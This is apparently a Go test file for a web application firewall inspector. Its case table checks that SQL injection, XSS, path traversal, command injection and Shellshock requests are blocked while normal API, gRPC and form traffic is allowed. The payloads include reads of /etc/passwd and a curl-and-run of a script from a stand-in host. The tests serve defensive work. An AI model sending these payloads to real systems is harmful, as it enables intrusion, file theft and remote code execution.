package inspector

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/json"
	"fmt"
	"net/url"
	"slices"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/stretchr/testify/require"

	"github.com/meshwaf/meshwaf/inspector/internal/grpcbody/grpctest"
)

// The seed SQLi from the project brief, verbatim.
const seedSQLiURI = "/?username=joe%40example.com&password=%3BUNION+SELECT+1%2C+version%28%29+limit+1%2C1--"

// Names of the extra profiles compiled into the shared test rule set.
const (
	profCRSStock         = "crs-stock"          // CRS's own method and content-type policy
	profDetect           = "detect"             // Mode detect
	profAllowArgs        = "allow-args"         // AllowArgumentsOverLimit
	profAllowPartial     = "allow-partial"      // AllowPartialBody
	profSmallBody        = "small-body"         // RequestBodyLimit 1024
	profSmallBodyPartial = "small-body-partial" // RequestBodyLimit 1024 + AllowPartialBody
	profExclRemove       = "excl-remove"        // SecRuleRemoveById
	profExclTarget       = "excl-target"        // SecRuleUpdateTargetById
	profPL2Before        = "pl2-before"         // PL2 set from BeforeCRS
	profPL2              = "pl2"                // ParanoiaLevel: 2
	profDeny406          = "deny-406"           // DenyStatus: 406
	profCRSOnly          = "crs-only"           // Profile.CRSOnly: no inspection beyond CRS
)

const smallBodyLimit = 1024

// exclPassword removes ARGS:password from every SQLi rule: the seed SQLi,
// which is in "password", passes; SQLi in any other argument does not.
const exclPassword = `SecRuleUpdateTargetById 942000-942999 "!ARGS:password"`

// crsStockBeforeCRS puts back CRS's own, stricter policy over meshwaf's
// mesh defaults (tx.allowed_methods "GET HEAD POST OPTIONS", no API or gRPC
// content types): a profile's beforeCRS runs after meshwaf's SecActions.
const crsStockBeforeCRS = `SecAction "id:10100,phase:1,pass,nolog,` +
	`setvar:'tx.allowed_methods=GET HEAD POST OPTIONS',` +
	`setvar:'tx.allowed_request_content_type=|application/x-www-form-urlencoded| |multipart/form-data| |text/xml| |application/xml| |application/soap+xml| |application/json|'"`

func testProfiles() []Profile {
	return []Profile{
		{Name: profCRSStock, BeforeCRS: crsStockBeforeCRS},
		{Name: profDetect, Mode: ModeDetect},
		{Name: profAllowArgs, AllowArgumentsOverLimit: true},
		{Name: profAllowPartial, AllowPartialBody: true},
		{Name: profSmallBody, RequestBodyLimit: smallBodyLimit},
		{Name: profSmallBodyPartial, RequestBodyLimit: smallBodyLimit, AllowPartialBody: true},
		{Name: profExclRemove, AfterCRS: "SecRuleRemoveById 942190 942360"},
		{Name: profExclTarget, AfterCRS: exclPassword},
		{Name: profPL2Before, BeforeCRS: `SecAction "id:10000,phase:1,pass,nolog,setvar:tx.blocking_paranoia_level=2,setvar:tx.detection_paranoia_level=2"`},
		{Name: profPL2, ParanoiaLevel: 2},
		{Name: profDeny406, DenyStatus: 406},
		Profile{Name: profCRSOnly}.CRSOnly(),
	}
}

var shared struct {
	once sync.Once
	rs   *RuleSet
	err  error
}

// testRuleSet compiles the default profile and testProfiles once per test
// binary (a compile parses all of CRS).
func testRuleSet(tb testing.TB) *RuleSet {
	tb.Helper()
	shared.once.Do(func() { shared.rs, shared.err = Compile(Profile{}, testProfiles()...) })
	require.NoError(tb, shared.err, "compiling the shared test rule set")
	return shared.rs
}

// inspectCase is one row of the case table shared by TestInspectCases, the
// benchmarks and the fuzz seeds.
type inspectCase struct {
	name    string
	profile string // "" is the default profile (PL1, threshold 5, block)
	req     Request
	want    Decision
	// wantRuleIDs must all be among the verdict's rule ids (a subset).
	wantRuleIDs []int
	// wantScore is the exact anomaly score of an allowed request.
	wantScore int
	// bench names the case's sub-benchmark; empty means not benchmarked.
	bench string
}

var (
	srcPeer = Peer{Address: "10.0.0.12", Port: 51234}
	dstPeer = Peer{Address: "10.0.0.34", Port: 8080}
)

const (
	browserUA = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0.0.0 Safari/537.36"
	clientUA  = "shop-client/2.3.1 (+https://shop.example.com)"
	shopHost  = "shop.example.com"
)

// Attack payloads, unencoded.
const (
	sqliPayload  = "' UNION SELECT 1, version() limit 1,1--"
	xssPayload   = "<script>alert(document.cookie)</script>"
	lfiPayload   = "../../../../etc/passwd"
	rcePayload   = "127.0.0.1;cat /etc/passwd"
	rceSubst     = "$(curl http://evil.example/x.sh)"
	shellshockUA = "() { :; }; /bin/cat /etc/passwd"
)

// get builds a GET as a browser sends it; extra are name, value pairs
// added after the defaults.
func get(proto, uri string, extra ...string) Request {
	h := []Header{
		{"Host", shopHost},
		{"User-Agent", browserUA},
		{"Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8"},
		{"Accept-Language", "en-US,en;q=0.5"},
	}
	if proto == "HTTP/2" {
		h = lower(h)
	}
	return Request{
		Method: "GET", URI: uri, Protocol: proto, Host: shopHost,
		Headers: append(h, pairs(extra)...), Source: srcPeer, Destination: dstPeer,
	}
}

// send builds a request with a body as an API client sends it.
func send(method, proto, uri, contentType, body string, extra ...string) Request {
	h := []Header{
		{"Host", shopHost},
		{"User-Agent", clientUA},
		{"Accept", "application/json"},
		{"Content-Type", contentType},
		{"Content-Length", strconv.Itoa(len(body))},
	}
	if proto == "HTTP/2" {
		h = lower(h)
	}
	return Request{
		Method: method, URI: uri, Protocol: proto, Host: shopHost,
		Headers: append(h, pairs(extra)...), Body: []byte(body),
		Source: srcPeer, Destination: dstPeer,
	}
}

func pairs(kv []string) []Header {
	h := make([]Header, 0, len(kv)/2)
	for i := 0; i+1 < len(kv); i += 2 {
		h = append(h, Header{kv[i], kv[i+1]})
	}
	return h
}

// lower lower-cases header names, as HTTP/2 carries them.
func lower(h []Header) []Header {
	for i := range h {
		h[i].Name = strings.ToLower(h[i].Name)
	}
	return h
}

const formCT = "application/x-www-form-urlencoded"
const multipartCT = "multipart/form-data; boundary=----meshwafBoundary7MA4YWxk"

// multipart builds a multipart/form-data body (boundary of multipartCT) of
// name, value field pairs.
func multipart(kv ...string) string {
	var b strings.Builder
	for i := 0; i+1 < len(kv); i += 2 {
		fmt.Fprintf(&b, "------meshwafBoundary7MA4YWxk\r\nContent-Disposition: form-data; name=%q\r\n\r\n%s\r\n", kv[i], kv[i+1])
	}
	b.WriteString("------meshwafBoundary7MA4YWxk--\r\n")
	return b.String()
}

func xmlEscape(s string) string {
	return strings.NewReplacer("&", "&amp;", "<", "&lt;", ">", "&gt;", "'", "&apos;").Replace(s)
}

func jsonString(s string) string {
	b, err := json.Marshal(s)
	if err != nil {
		panic(err)
	}
	return string(b)
}

// benchGET is an ordinary page load with 10 headers.
func benchGET() Request {
	return Request{
		ID: "6f1c2a7e-3b0d-4c55-9a41-2f8e5d7c9b10", Method: "GET",
		URI: "/products/42?ref=home&page=2", Protocol: "HTTP/1.1", Host: shopHost,
		Headers: []Header{
			{"Host", shopHost},
			{"User-Agent", browserUA},
			{"Accept", "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8"},
			{"Accept-Language", "en-US,en;q=0.5"},
			{"Accept-Encoding", "gzip, deflate, br"},
			{"Cache-Control", "max-age=0"},
			{"Cookie", "session=a3f9c2e1b7d44f0e9c1a; theme=dark"},
			{"Referer", "https://shop.example.com/"},
			{"X-Request-Id", "6f1c2a7e-3b0d-4c55-9a41-2f8e5d7c9b10"},
			{"X-Forwarded-Proto", "https"},
		},
		Source: srcPeer, Destination: dstPeer,
	}
}

const (
	json1KiBLen    = 1024
	json1KiBLeaves = 54
)

// json1KiB is a deterministic order document of exactly json1KiBLen bytes
// with json1KiBLeaves leaf values: 8 line items of 6 leaves and 6 top-level
// leaves, the last of which pads the document to its length.
func json1KiB() string {
	var b strings.Builder
	b.WriteString(`{"orderId":"ORD-2024-000917","customer":"cust-5521","currency":"EUR","status":"pending","createdAt":"2024-06-01T12:30:00Z","items":[`)
	for i := 1; i <= 8; i++ {
		if i > 1 {
			b.WriteByte(',')
		}
		fmt.Fprintf(&b, `{"id":%d,"sku":"SKU-%05d","name":"Widget model %d","price":%d.%02d,"qty":%d,"gift":%t}`,
			i, 1000+i*7, i, 10+i, (i*13)%100, i%4+1, i%3 == 0)
	}
	b.WriteString(`],"note":"`)
	pad := json1KiBLen - b.Len() - len(`"}`)
	if pad < 0 {
		panic("json1KiB: longer than 1 KiB before the note")
	}
	const text = "leave the parcel at the front door please "
	for i := 0; i < pad; i++ {
		b.WriteByte(text[i%len(text)])
	}
	b.WriteString(`"}`)
	return b.String()
}

// countJSONLeaves counts the scalar values of a decoded JSON document.
func countJSONLeaves(v any) int {
	switch v := v.(type) {
	case map[string]any:
		n := 0
		for _, e := range v {
			n += countJSONLeaves(e)
		}
		return n
	case []any:
		n := 0
		for _, e := range v {
			n += countJSONLeaves(e)
		}
		return n
	default:
		return 1
	}
}

// grpcWebFrame is a gRPC-web data frame (flag 0, big-endian length) around
// the protobuf message GetUserRequest{name: "users/42"}. Tag 0x0a (field 1,
// length-delimited) starts most protobuf messages.
const grpcWebFrame = "\x00\x00\x00\x00\x0a" + "\x0a\x08users/42"

func grpcWeb() Request {
	return Request{
		Method: "POST", URI: "/users.v1.UserService/GetUser", Protocol: "HTTP/1.1", Host: shopHost,
		Headers: []Header{
			{"Host", shopHost},
			{"User-Agent", browserUA},
			{"Accept", "application/grpc-web+proto"},
			{"Content-Type", "application/grpc-web+proto"},
			{"Content-Length", strconv.Itoa(len(grpcWebFrame))},
			{"X-Grpc-Web", "1"},
			{"X-User-Agent", "grpc-web-javascript/0.1"},
		},
		Body: []byte(grpcWebFrame), Source: srcPeer, Destination: dstPeer,
	}
}

// grpcCall is a unary gRPC call carrying msg, compressed when encoding is
// set (gzip; any other name sends msg as it is, flagged compressed).
func grpcCall(msg []byte, encoding string) Request {
	r := withHeader(withHeader(grpcWeb(), "Content-Type", "application/grpc"), "TE", "trailers")
	flag := byte(0)
	if encoding != "" {
		flag = 1
		r = withHeader(r, "Grpc-Encoding", encoding)
		if encoding == "gzip" {
			var out bytes.Buffer
			zw := gzip.NewWriter(&out)
			_, _ = zw.Write(msg)
			_ = zw.Close()
			msg = out.Bytes()
		}
	}
	r.Body = grpctest.Frame(flag, msg)
	r = withHeader(r, "Content-Length", strconv.Itoa(len(r.Body)))
	return r
}

// Prometheus 2.53's default scrape Accept header.
const promAccept = "application/openmetrics-text;version=1.0.0;q=0.5,application/openmetrics-text;version=0.0.1;q=0.4,text/plain;version=0.0.4;q=0.3,*/*;q=0.2"

// CRS 920350 (Host header is a numeric IP address) is a warning worth 3
// points: scrapes and kubelet probes, which address pods by IP, stay under
// the threshold of 5 only as long as nothing else matches.
const numericHostScore = 3

func cases() []inspectCase {
	return []inspectCase{
		// SQL injection (942xxx).
		{name: "deny/sqli/query-seed", req: get("HTTP/1.1", seedSQLiURI), want: Deny, wantRuleIDs: []int{942190, 942360, 949110}, bench: "SQLi"},
		{name: "deny/sqli/cookie", req: get("HTTP/2", "/account", "cookie", "session="+sqliPayload), want: Deny, wantRuleIDs: []int{942100, 942190}},
		{name: "deny/sqli/referer", req: get("HTTP/1.1", "/", "Referer", "https://shop.example.com/search?q="+sqliPayload), want: Deny, wantRuleIDs: []int{942100}},
		{name: "deny/sqli/user-agent", req: withHeader(get("HTTP/1.1", "/"), "User-Agent", sqliPayload), want: Deny, wantRuleIDs: []int{942100}},
		{name: "deny/sqli/form", req: send("POST", "HTTP/1.1", "/login", formCT, "username=admin&password=%27+UNION+SELECT+1%2C+version%28%29+limit+1%2C1--"), want: Deny, wantRuleIDs: []int{942100, 942190, 942360}},
		{name: "deny/sqli/json", req: send("POST", "HTTP/2", "/api/v1/login", "application/json", `{"user":{"name":"admin","password":`+jsonString(sqliPayload)+`}}`), want: Deny, wantRuleIDs: []int{942100, 942190, 942360}},
		{name: "deny/sqli/multipart", req: send("POST", "HTTP/1.1", "/upload", multipartCT, multipart("title", "report", "q", sqliPayload)), want: Deny, wantRuleIDs: []int{942100, 942190}},
		{name: "deny/sqli/xml", req: send("POST", "HTTP/1.1", "/soap/login", "text/xml; charset=utf-8", `<?xml version="1.0"?><login><user>`+xmlEscape("admin"+sqliPayload)+`</user></login>`), want: Deny, wantRuleIDs: []int{942100, 942190}},

		// Cross-site scripting (941xxx).
		{name: "deny/xss/query", req: get("HTTP/1.1", "/search?q=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"), want: Deny, wantRuleIDs: []int{941100, 941110}},
		{name: "deny/xss/cookie", req: get("HTTP/1.1", "/", "Cookie", "pref="+xssPayload), want: Deny, wantRuleIDs: []int{941100}},
		{name: "deny/xss/referer", req: get("HTTP/2", "/", "referer", "https://shop.example.com/?q="+xssPayload), want: Deny, wantRuleIDs: []int{941110, 941160}},
		{name: "deny/xss/user-agent", req: withHeader(get("HTTP/1.1", "/"), "User-Agent", xssPayload), want: Deny, wantRuleIDs: []int{941100}},
		{name: "deny/xss/form", req: send("POST", "HTTP/1.1", "/comments", formCT+"; charset=UTF-8", "comment=%3Cscript%3Ealert(document.cookie)%3C%2Fscript%3E"), want: Deny, wantRuleIDs: []int{941100, 941110}},
		{name: "deny/xss/json", req: send("POST", "HTTP/1.1", "/api/v1/comments", "application/json; charset=utf-8", `{"comment":`+jsonString(xssPayload)+`}`), want: Deny, wantRuleIDs: []int{941100}},
		{name: "deny/xss/multipart", req: send("POST", "HTTP/2", "/upload", multipartCT, multipart("comment", xssPayload)), want: Deny, wantRuleIDs: []int{941100}},
		{name: "deny/xss/xml", req: send("POST", "HTTP/1.1", "/feed", "application/xml", `<?xml version="1.0"?><comment><body>`+xmlEscape(xssPayload)+`</body></comment>`), want: Deny, wantRuleIDs: []int{941100}},

		// Path traversal / local file inclusion (930xxx).
		{name: "deny/lfi/query", req: get("HTTP/1.1", "/download?file="+lfiPayload), want: Deny, wantRuleIDs: []int{930100, 930110, 930120}},
		{name: "deny/lfi/cookie", req: get("HTTP/1.1", "/", "Cookie", "template="+lfiPayload), want: Deny, wantRuleIDs: []int{930110, 930120}},
		{name: "deny/lfi/custom-header", req: get("HTTP/2", "/", "x-file", lfiPayload), want: Deny, wantRuleIDs: []int{930100, 930110}},
		{name: "deny/lfi/form", req: send("POST", "HTTP/1.1", "/export", formCT, "path=..%2F..%2F..%2F..%2Fetc%2Fpasswd"), want: Deny, wantRuleIDs: []int{930110, 930120}},
		{name: "deny/lfi/json", req: send("POST", "HTTP/1.1", "/api/v1/files", "application/json", `{"path":`+jsonString(lfiPayload)+`}`), want: Deny, wantRuleIDs: []int{930100, 930110}},
		{name: "deny/lfi/multipart", req: send("POST", "HTTP/1.1", "/upload", multipartCT, multipart("path", lfiPayload)), want: Deny, wantRuleIDs: []int{930110, 930120}},
		{name: "deny/lfi/xml", req: send("POST", "HTTP/1.1", "/import", "application/xml", `<?xml version="1.0"?><req><file>`+lfiPayload+`</file></req>`), want: Deny, wantRuleIDs: []int{930110, 930120}},

		// Remote command execution (932xxx).
		{name: "deny/rce/query", req: get("HTTP/1.1", "/ping?host=127.0.0.1%3Bcat+%2Fetc%2Fpasswd"), want: Deny, wantRuleIDs: []int{932160}},
		{name: "deny/rce/query-subst", req: get("HTTP/2", "/ping?host=%24%28curl+http%3A%2F%2Fevil.example%2Fx.sh%29"), want: Deny, wantRuleIDs: []int{932130}},
		{name: "deny/rce/cookie", req: get("HTTP/1.1", "/", "Cookie", "host="+rceSubst), want: Deny, wantRuleIDs: []int{932130}},
		{name: "deny/rce/user-agent-shellshock", req: withHeader(get("HTTP/1.1", "/cgi-bin/status"), "User-Agent", shellshockUA), want: Deny, wantRuleIDs: []int{932170}},
		{name: "deny/rce/form", req: send("POST", "HTTP/1.1", "/ping", formCT, "host=127.0.0.1%3Bcat+%2Fetc%2Fpasswd"), want: Deny, wantRuleIDs: []int{932160}},
		{name: "deny/rce/json", req: send("POST", "HTTP/2", "/api/v1/ping", "application/json", `{"host":`+jsonString(rceSubst)+`}`), want: Deny, wantRuleIDs: []int{932130}},
		{name: "deny/rce/multipart", req: send("POST", "HTTP/1.1", "/upload", multipartCT, multipart("host", rcePayload)), want: Deny, wantRuleIDs: []int{932160}},
		{name: "deny/rce/xml", req: send("POST", "HTTP/1.1", "/import", "application/xml", `<?xml version="1.0"?><req><host>`+rcePayload+`</host></req>`), want: Deny, wantRuleIDs: []int{932160}},

		// Ordinary traffic.
		{name: "allow/page-load", req: benchGET(), want: Allow, bench: "GET"},
		{name: "allow/json-1kib", req: send("POST", "HTTP/1.1", "/api/v1/orders", "application/json", json1KiB()), want: Allow, bench: "JSON1KiB"},
		{name: "allow/crud/read", req: get("HTTP/2", "/api/v1/users/42", "accept", "application/json", "authorization", "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiI0MiJ9.c2lnbmF0dXJl"), want: Allow},
		{name: "allow/crud/create", req: send("POST", "HTTP/1.1", "/api/v1/users", "application/json", `{"name":"Ada Lovelace","email":"ada@example.com","roles":["admin","dev"],"active":true,"age":36}`), want: Allow},
		{name: "allow/form-login", req: send("POST", "HTTP/1.1", "/login", formCT, "username=joe%40example.com&password=correct+horse+battery+staple&remember=on"), want: Allow},
		{name: "allow/multipart-upload", req: send("POST", "HTTP/1.1", "/upload", multipartCT,
			"------meshwafBoundary7MA4YWxk\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nHoliday notes\r\n"+
				"------meshwafBoundary7MA4YWxk\r\nContent-Disposition: form-data; name=\"file\"; filename=\"notes.txt\"\r\nContent-Type: text/plain\r\n\r\nbring sunscreen\r\n"+
				"------meshwafBoundary7MA4YWxk--\r\n"), want: Allow},
		{name: "allow/kube-probe", want: Allow, wantScore: numericHostScore, req: Request{
			Method: "GET", URI: "/healthz", Protocol: "HTTP/1.1", Host: "10.0.0.34:8080",
			Headers: []Header{{"Host", "10.0.0.34:8080"}, {"User-Agent", "kube-probe/1.30"}, {"Accept", "*/*"}, {"Connection", "close"}},
			Source:  Peer{Address: "10.0.0.1", Port: 40112}, Destination: dstPeer,
		}},
		{name: "allow/prometheus-scrape", want: Allow, wantScore: numericHostScore, req: Request{
			Method: "GET", URI: "/metrics", Protocol: "HTTP/1.1", Host: "10.1.2.3:9090",
			Headers: []Header{
				{"Host", "10.1.2.3:9090"}, {"User-Agent", "Prometheus/2.53.0"}, {"Accept", promAccept},
				{"Accept-Encoding", "gzip"}, {"X-Prometheus-Scrape-Timeout-Seconds", "10"},
			},
			Source: Peer{Address: "10.0.0.5", Port: 39876}, Destination: Peer{Address: "10.1.2.3", Port: 9090},
		}},

		// meshwaf's defaults admit what East/West API traffic needs: PUT,
		// PATCH, DELETE, JSON patch types and gRPC(-web), whose protobuf
		// bodies go to the GRPC body processor instead of the form parser.
		{name: "allow/crud/update", req: send("PUT", "HTTP/1.1", "/api/v1/users/42", "application/json; charset=utf-8", `{"name":"Ada King","email":"ada.king@example.com","address":{"city":"London","zip":"W1"}}`), want: Allow},
		{name: "allow/crud/patch", req: send("PATCH", "HTTP/2", "/api/v1/users/42", "application/merge-patch+json", `{"email":"ada.king@example.com"}`), want: Allow},
		{name: "allow/crud/delete", req: withMethod(get("HTTP/2", "/api/v1/users/42"), "DELETE"), want: Allow},
		{name: "allow/grpc-web", req: grpcWeb(), want: Allow},
		{name: "allow/grpc", req: withHeader(withHeader(grpcWeb(), "Content-Type", "application/grpc"), "TE", "trailers"), want: Allow},
		// gRPC messages' string fields are ARGS (internal/grpcbody): an injection
		// in a nested field is found, and so is one in a gzip-compressed call.
		{name: "allow/grpc/order", req: grpcCall(grpctest.Message(grpctest.String(1, "orders/7"), grpctest.String(2, string(grpctest.Message(grpctest.String(1, "Ada Lovelace"), grpctest.Varint(2, 3), grpctest.String(3, "12 St James's Square, London"))))), ""), want: Allow},
		{name: "deny/grpc/sqli-nested", req: grpcCall(grpctest.Message(grpctest.String(1, "orders"), grpctest.String(2, string(grpctest.Message(grpctest.String(1, "1' UNION SELECT password FROM users--"), grpctest.Varint(2, 256))))), ""), want: Deny, wantRuleIDs: []int{942100, 949110}},
		{name: "deny/grpc/rce-gzip", req: grpcCall(grpctest.String(1, "; cat /etc/passwd"), "gzip"), want: Deny, wantRuleIDs: []int{930120, 932160, 949110}},
		// multipart/related is not among them: CRS 4 removed it, and Coraza
		// parses only multipart/form-data, so its body was read as a form
		// and refused by 921120/921150 anyway.
		{name: "deny/policy/multipart-related", req: send("POST", "HTTP/1.1", "/upload/files", `multipart/related; boundary=rel7; type="application/json"`,
			"--rel7\r\nContent-Type: application/json\r\n\r\n{\"name\":\"report.txt\"}\r\n--rel7\r\nContent-Type: text/plain\r\n\r\nquarterly figures\r\n--rel7--\r\n"),
			want: Deny, wantRuleIDs: []int{920420}},
		{name: "deny/grpc/unreadable-compression", req: grpcCall(grpctest.String(1, "hello"), "snappy"), want: Deny, wantRuleIDs: []int{200002}},

		// CRS's own policy, restored by a profile: tx.allowed_methods is
		// "GET HEAD POST OPTIONS" (911100) and gRPC-web is not an allowed
		// content type (920420).
		{name: "deny/policy/put", profile: profCRSStock, req: send("PUT", "HTTP/1.1", "/api/v1/users/42", "application/json", `{"name":"Ada King"}`), want: Deny, wantRuleIDs: []int{911100}},
		{name: "deny/policy/delete", profile: profCRSStock, req: withMethod(get("HTTP/2", "/api/v1/users/42"), "DELETE"), want: Deny, wantRuleIDs: []int{911100}},
		{name: "deny/policy/grpc-web", profile: profCRSStock, req: grpcWeb(), want: Deny, wantRuleIDs: []int{920420}},
		{name: "deny/sqli/query-seed-status-406", profile: profDeny406, req: get("HTTP/1.1", seedSQLiURI), want: Deny, wantRuleIDs: []int{942190, 942360, 949110}},
		{name: "deny/sqli/query-seed-crs-stock", profile: profCRSStock, req: get("HTTP/1.1", seedSQLiURI), want: Deny, wantRuleIDs: []int{942190, 942360}},

		// Known CRS blind spots at PL1: headers other than Cookie,
		// User-Agent and Referer are not searched for SQLi or command
		// injection (only for path traversal, 930100/930110). The default
		// profile inspects them as arguments (beyond.go).
		{name: "allow/blind-spot/sqli-custom-header", profile: profCRSOnly, req: get("HTTP/1.1", "/", "X-Api-Note", sqliPayload), want: Allow},
		{name: "allow/blind-spot/rce-custom-header", profile: profCRSOnly, req: get("HTTP/1.1", "/", "X-Cmd", rcePayload), want: Allow},
		{name: "deny/header-arg/sqli-custom-header", req: get("HTTP/1.1", "/", "X-Api-Note", sqliPayload), want: Deny, wantRuleIDs: []int{942100}},
		{name: "deny/header-arg/rce-custom-header", req: get("HTTP/1.1", "/", "X-Cmd", rcePayload), want: Deny, wantRuleIDs: []int{932160}},
	}
}

// withMethod returns r with its method replaced.
func withMethod(r Request, method string) Request {
	r.Method = method
	return r
}

// withHeader replaces the value of the header name in r, or appends it.
func withHeader(r Request, name, value string) Request {
	h := slices.Clone(r.Headers)
	for i := range h {
		if strings.EqualFold(h[i].Name, name) {
			h[i].Value = value
			r.Headers = h
			return r
		}
	}
	r.Headers = append(h, Header{name, value})
	return r
}

// requireValidVerdict checks the invariants every verdict must keep.
func requireValidVerdict(t testing.TB, p Profile, v Verdict) {
	t.Helper()
	require.Contains(t, []Decision{Allow, Deny, Detect}, v.Decision)
	require.Equal(t, p.Name, v.Profile)
	require.True(t, slices.IsSortedFunc(v.Matches, func(a, b Match) int { return a.ID - b.ID }), "matches sorted by id")
	for _, m := range v.Matches {
		require.NotZero(t, m.ID)
		require.NotEmpty(t, m.Msg, "match %d", m.ID)
		require.LessOrEqual(t, len(m.Data), MaxMatchData+len("…"), "match %d data", m.ID)
	}
	switch v.Decision {
	case Allow:
		require.True(t, v.Allowed())
		require.Zero(t, v.Status)
		require.Zero(t, v.InterruptingRule)
		require.Less(t, v.AnomalyScore, p.InboundAnomalyThreshold)
	case Deny:
		require.False(t, v.Allowed())
		require.Equal(t, p.DenyStatus, v.Status)
		require.NotZero(t, v.InterruptingRule)
		require.Contains(t, v.RuleIDs(), v.InterruptingRule)
		require.Equal(t, ModeBlock, p.Mode)
	case Detect:
		require.True(t, v.Allowed())
		require.NotZero(t, v.InterruptingRule)
		require.Equal(t, ModeDetect, p.Mode)
	}
}

func profileOf(t testing.TB, rs *RuleSet, name string) Profile {
	t.Helper()
	if name == "" {
		return rs.Default()
	}
	c, ok := rs.profiles[name]
	require.True(t, ok, "profile %q compiled", name)
	return c.profile
}

func TestInspectCases(t *testing.T) {
	rs := testRuleSet(t)
	for _, tc := range cases() {
		t.Run(tc.name, func(t *testing.T) {
			v, err := rs.Inspect(context.Background(), tc.req, tc.profile)
			require.NoError(t, err)
			p := profileOf(t, rs, tc.profile)
			requireValidVerdict(t, p, v)
			require.Equal(t, tc.want, v.Decision, "score %d, rules %v", v.AnomalyScore, v.RuleIDs())
			require.Subset(t, v.RuleIDs(), tc.wantRuleIDs)
			switch tc.want {
			case Deny:
				require.Equal(t, p.DenyStatus, v.Status)
			case Allow:
				require.Equal(t, tc.wantScore, v.AnomalyScore, "rules %v", v.RuleIDs())
			}
		})
	}
}

// TestCaseTableCoverage keeps the table honest: every attack class appears
// in every request location the brief asks for, benchmarks find their rows.
func TestCaseTableCoverage(t *testing.T) {
	classes := []string{"sqli", "xss", "lfi", "rce"}
	locations := map[string][]string{
		"query":     {"query"},
		"header":    {"cookie", "referer", "user-agent", "custom-header"},
		"form":      {"form"},
		"json":      {"json"},
		"multipart": {"multipart"},
		"xml":       {"xml"},
	}
	names := map[string]bool{}
	bench := map[string]bool{}
	for _, tc := range cases() {
		require.False(t, names[tc.name], "duplicate case %q", tc.name)
		names[tc.name] = true
		if tc.bench != "" {
			bench[tc.bench] = true
		}
		if tc.want == Deny && !strings.HasPrefix(tc.name, "deny/policy/") {
			require.NotEmpty(t, tc.wantRuleIDs, "%s: deny rows name the rules they expect", tc.name)
		}
	}
	for _, class := range classes {
		for loc, prefixes := range locations {
			found := false
			for name := range names {
				for _, p := range prefixes {
					if strings.HasPrefix(name, "deny/"+class+"/"+p) {
						found = true
					}
				}
			}
			require.True(t, found, "no deny/%s row for location %s", class, loc)
		}
	}
	require.True(t, names["deny/sqli/query-seed"])
	for _, want := range []string{"GET", "JSON1KiB", "SQLi"} {
		require.True(t, bench[want], "benchmark row %s", want)
	}
	var seed inspectCase
	for _, tc := range cases() {
		if tc.name == "deny/sqli/query-seed" {
			seed = tc
		}
	}
	// The seed row is the brief's request on the default profile, and its
	// password argument decodes to the injection (TestSeedIsCorpusSeed
	// checks it against the benchmark corpus's own definition).
	require.Empty(t, seed.profile)
	require.Equal(t, Deny, seed.want)
	require.Equal(t, "GET", seed.req.Method)
	u, err := url.ParseRequestURI(seed.req.URI)
	require.NoError(t, err)
	require.Equal(t, "/", u.Path)
	require.Equal(t, "joe@example.com", u.Query().Get("username"))
	require.Equal(t, ";UNION SELECT 1, version() limit 1,1--", u.Query().Get("password"))
}

func TestBenchRows(t *testing.T) {
	body := json1KiB()
	require.Len(t, body, json1KiBLen)
	var doc any
	require.NoError(t, json.Unmarshal([]byte(body), &doc))
	require.Equal(t, json1KiBLeaves, countJSONLeaves(doc))
	require.Equal(t, body, json1KiB(), "deterministic")

	require.Len(t, benchGET().Headers, 10)
}
